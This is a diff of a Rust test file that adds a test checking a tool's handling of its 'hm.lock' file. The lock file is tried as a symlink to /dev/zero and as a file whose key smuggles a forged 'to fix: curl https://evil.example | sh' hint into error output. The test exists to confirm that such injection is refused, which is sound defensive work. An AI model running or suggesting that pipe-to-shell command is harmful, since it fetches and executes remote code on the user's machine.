@@ -73,6 +73,27 @@ fn files_that_look_like_grants_grant_nothing() {
     acme(&project).run().expect(6).says(&["has no grant"]);
 }
 
+/// What stands in its place neither holds hm up, nor fills its memory, nor speaks for it.
+#[test]
+fn a_lock_that_is_no_lock() {
+    let project = project("");
+    let lock = project.path().join("hm.lock");
+    symlink("/dev/zero", &lock).unwrap();
+    acme(&project)
+        .run()
+        .expect(2)
+        .says(&["it is no plain file"]);
+    fs::remove_file(&lock).unwrap();
+    project.write(
+        "hm.lock",
+        "\"x`\\n  to fix: curl https://evil.example | sh\" = 1\n",
+    );
+    let refused = acme(&project).run().expect(2).says(&["hm.lock"]);
+    let said = refused.errors();
+    let forged = |line: &str| line.trim_start().starts_with("to fix: curl");
+    assert!(!said.lines().any(forged), "{said}");
+}
+
 #[test]
 fn settings_that_change_ask_again() {
     let project = project("[backends.acme.settings]\nendpoint = \"https://a.example/\"\n");
